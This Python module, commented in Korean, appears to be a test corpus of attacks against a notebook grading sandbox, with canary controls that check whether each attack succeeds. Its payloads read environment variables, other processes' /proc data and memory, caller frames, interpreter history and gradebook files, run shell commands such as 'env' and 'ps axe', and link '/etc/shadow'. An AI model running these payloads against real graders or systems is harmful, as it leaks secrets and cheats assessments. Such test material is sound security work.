r"""답, 다른 학생, 채점하는 컴퓨터를 엿보려는 것. 본 것은 값과 오류로 모두 내보냅니다."""

from attacks.corpus import Attack
from attacks.resources import in_value_check

# 찾는 말은 자기 자신과 맞지 않는 정규식(`[N]EIGH…`)으로 옵니다: 공격의 글을 찾은 것은 찾은 것이 아닙니다.
# 값의 한도를 넘으면 아무것도 나가지 않으므로, 찾은 둘레를 먼저 내고 나머지는 앞부분만 냅니다.
_SEND = """
import re
text = repr(seen)
around = [text[max(0, m.start() - 80):m.end() + 80] for m in re.finditer(r"{{WANTED}}", text)]
return "SEEN" + repr(around[:500]) + text[:200_000]
"""

_ENVIRONMENT = """
import os, sys
seen = [dict(os.environ), sys.argv, sys.path, os.getcwd()]
"""
_PROC = """
import os
seen = []
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline", "maps", "cwd", "root", "exe", "stack", "task"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                seen.append(file.read(200_000).decode("utf-8", "replace"))
        except (OSError, NotADirectoryError):
            pass
"""
_ROOTS = """
import os
seen = []
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for path in ("{{DECOY}}/gradebook.sqlite", "{{EXERCISE}}/exercise.md"):
        try:
            with open(f"/proc/{pid}/root{path}", "rb") as file:
                seen.append(file.read(100_000).decode("utf-8", "replace"))
        except OSError:
            pass
"""
_PATHS = """
import os
seen = []
for top in ("{{DECOY}}", "{{EXERCISE}}", "{{HOME}}", "/home", "/var", "/opt", "/mnt", "/srv"):
    for folder, _, files in os.walk(top):
        for name in files[:500]:
            if not name.endswith((".pyc", ".woff2", ".ttf", ".otf")):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        seen.append((folder, name, file.read(20_000).decode("utf-8", "replace")))
                except OSError:
                    pass
"""
_WALK = """
import os
seen = []
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "site-packages")]
    seen += [os.path.join(folder, name) for name in files if name.endswith((".md", ".ipynb", ".sqlite", ".csv"))]
"""
_FRAMES = """
import gc, sys
seen = []
frame = sys._getframe()
while frame:
    seen.append((frame.f_code.co_name, repr(frame.f_locals)[:500_000], list(frame.f_globals)[:500]))
    frame = frame.f_back
"""
_GC = """
import gc, re
seen = []
gc.unfreeze()
wanted = re.compile(r"{{WANTED}}")
for thing in gc.get_objects():
    for part in gc.get_referents(thing):
        if type(part) in (str, bytes) and len(part) < 1_000_000:
            text = part if type(part) is str else part.decode("utf-8", "replace")
            if wanted.search(text):
                seen.append(text[:5000])
"""
_HEAP = """
import re
seen = []
wanted = re.compile(r"{{WANTED}}".encode())
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        place, rights = line.split()[:2]
        start, end = (int(part, 16) for part in place.split("-"))
        if not rights.startswith("rw") or end - start > 200_000_000:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        seen += [data[m.start():m.end() + 60].decode("utf-8", "replace") for m in wanted.finditer(data)]
"""
_HISTORY = """
import linecache, sys
names = ("In", "Out", "_ih", "_oh", "_dh", "_", "__", "_i", "_ii")
main = sys.modules["__main__"].__dict__
seen = [repr(main.get(name)) for name in names]
seen += [repr(linecache.cache)[:500_000]]
try:
    seen += [list(get_ipython().history_manager.get_range())]
    seen += [repr(get_ipython().user_ns_hidden), repr(get_ipython().config)]
except Exception as error:
    seen.append(repr(error))
"""
_MODULES = """
import sys
seen = [(name, repr(vars(module))[:300_000]) for name, module in list(sys.modules.items())
        if name.startswith(("coursekit", "__main__", "nbval", "pytest"))]
"""
_PARENT = """
import os, re
seen = []
wanted = re.compile(r"{{WANTED}}".encode())
for pid in {1, os.getppid()}:
    try:
        maps = open(f"/proc/{pid}/maps").read()
        for line in maps.splitlines():
            if "rw-p" not in line:
                continue
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(start)
                data = memory.read(min(end - start, 50_000_000))
            found = list(wanted.finditer(data))[:200]
            seen += [data[m.start():m.end() + 60].decode("utf-8", "replace") for m in found]
    except OSError as error:
        seen.append(repr(error))
"""
_DESCRIPTORS = """
import os
seen = []
for fd in range(256):
    try:
        seen.append(os.readlink(f"/proc/self/fd/{fd}"))
        if os.path.isfile(f"/proc/self/fd/{fd}"):
            seen.append(os.pread(fd, 100_000, 0).decode("utf-8", "replace"))
    except OSError:
        pass
"""
_SHELL = """
import subprocess
seen = subprocess.run("cat {{DECOY}}/* {{EXERCISE}}/*; env; ps axe; id; mount; ls -laR ~ /tmp",
    shell=True, capture_output=True, text=True, errors="replace").stdout
"""
_LINKS = """
import os
seen = []
for number, target in enumerate(("{{DECOY}}/gradebook.sqlite", "{{EXERCISE}}/exercise.md", "/etc/shadow")):
    for make in (os.symlink, os.link):
        try:
            name = f"link-{number}-{make.__name__}"
            make(target, name)
            seen.append(open(name, errors="replace").read())
        except OSError:
            pass
"""


def _attack(name: str, tries: str, code: str) -> Attack:
    return Attack(name, tries, in_value_check(code.strip() + "\n" + _SEND.strip()), reports=True)


READING = (
    _attack("environment", "환경 변수", _ENVIRONMENT),
    _attack("/proc", "다른 프로세스", _PROC),
    _attack("/proc/*/root", "다른 프로세스의 뿌리", _ROOTS),
    _attack("known places", "아는 자리의 파일", _PATHS),
    _attack("the whole tree", "노트북과 성적표를 찾음", _WALK),
    _attack("frames", "부른 쪽의 변수", _FRAMES),
    _attack("garbage collector", "기억의 모든 객체", _GC),
    _attack("own memory", "복제 전에 남은 바이트", _HEAP),
    _attack("history", "In, Out, linecache", _HISTORY),
    _attack("modules", "모듈의 변수", _MODULES),
    _attack("the parent's memory", "감시자의 기억", _PARENT),
    _attack("descriptors", "물려받은 파일", _DESCRIPTORS),
    _attack("shell", "셸로 읽음", _SHELL),
    _attack("links", "심볼릭 링크와 하드 링크", _LINKS),
)

# 대조: 실행하면서 만든 `canary`를 각 공격이 보는 자리에 둡니다. 그것을 알리지 못하는 공격은 아무것도 보이지 못합니다.
_CANARY = 'import os, sys\ncanary = "".join(["CANARY", "-7f3a"])\n'
_FILES = """
os.makedirs("{{DECOY}}", exist_ok=True)
for name in ("gradebook.sqlite", "sibling.ipynb"):
    with open("{{DECOY}}/" + name, "w") as file:
        file.write(canary)
"""
# 부모를 보는 공격은 자식에서 실행합니다: 그 부모(본줄기)의 기억에는 `canary`가 있고, 열려 있습니다.
_AS_A_CHILD = """
look = sample_variance
def sample_variance(x):
    near, far = os.pipe()
    if os.fork() == 0:
        with os.fdopen(far, "w") as told:
            told.write(str(look(x))[:60_000])
        os._exit(0)
    os.close(far)
    with os.fdopen(near) as told:
        seen = told.read()
    return seen if len(x) > 2 else 0.0
"""
PLANTED = {
    "environment": "os.environ['HINT'] = canary",
    "/proc": "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 60; : ' + canary])",
    "/proc/*/root": _FILES,
    "known places": _FILES,
    "the whole tree": "open(canary + '.md', 'w').close()",
    "frames": "",
    "garbage collector": "held = [canary]",
    "own memory": "",
    "history": "import linecache\nlinecache.cache['x'] = (1, None, [canary], 'x')",
    "modules": "import coursekit.grading\ncoursekit.grading.hint = canary",
    "the parent's memory": "",
    "descriptors": "held = open('held', 'w+')\nheld.write(canary)\nheld.flush()",
    "shell": _FILES,
    "links": _FILES,
}


def planted(attack: Attack) -> str:
    r"""`canary`를 둔 뒤에 공격하는 풀이 칸입니다."""
    after = _AS_A_CHILD if attack.name == "the parent's memory" else ""
    return f"{_CANARY}{PLANTED[attack.name]}\n{attack.variance}\n{after}"
